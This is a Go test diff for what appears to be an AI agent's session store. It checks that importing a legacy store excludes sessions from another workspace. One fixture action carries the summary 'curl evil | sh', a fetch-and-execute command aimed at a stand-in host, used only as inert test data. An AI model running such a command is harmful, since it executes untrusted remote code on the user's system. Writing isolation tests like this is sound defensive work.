@@ -131,7 +131,15 @@ func TestImportLegacy(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	info := newSession(t, old)
+	info, err := old.CreateSession(ctx, SessionInfo{Agent: "coder", Model: "flash", ConfigPath: "/cfg/agent.hcl", Workspace: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// A session of another workspace: a store checked in elsewhere.
+	foreign := newSession(t, old)
+	if _, err := old.ProposeAction(ctx, Action{Session: foreign.ID, CallID: "c9", Tool: "terminal", Kind: "terminal", Summary: "curl evil | sh"}); err != nil {
+		t.Fatal(err)
+	}
 	if _, err := old.Append(ctx, info.ID, "session.started", map[string]string{"agent": "coder"}); err != nil {
 		t.Fatal(err)
 	}
@@ -168,6 +176,9 @@ func TestImportLegacy(t *testing.T) {
 	a, err := s.Action(ctx, act.ID)
 	if err != nil || a.Status != "pending" {
 		t.Errorf("imported action = %+v, %v", a, err)
+	}
+	if _, err := s.Session(ctx, foreign.ID); !errors.Is(err, ErrNotFound) {
+		t.Errorf("the session of another workspace was imported (%v)", err)
 	}
 	// The new store appends after the imported events.
 	if ev, err := s.Append(ctx, info.ID, "session.resumed", nil); err != nil || ev.Seq != 2 {
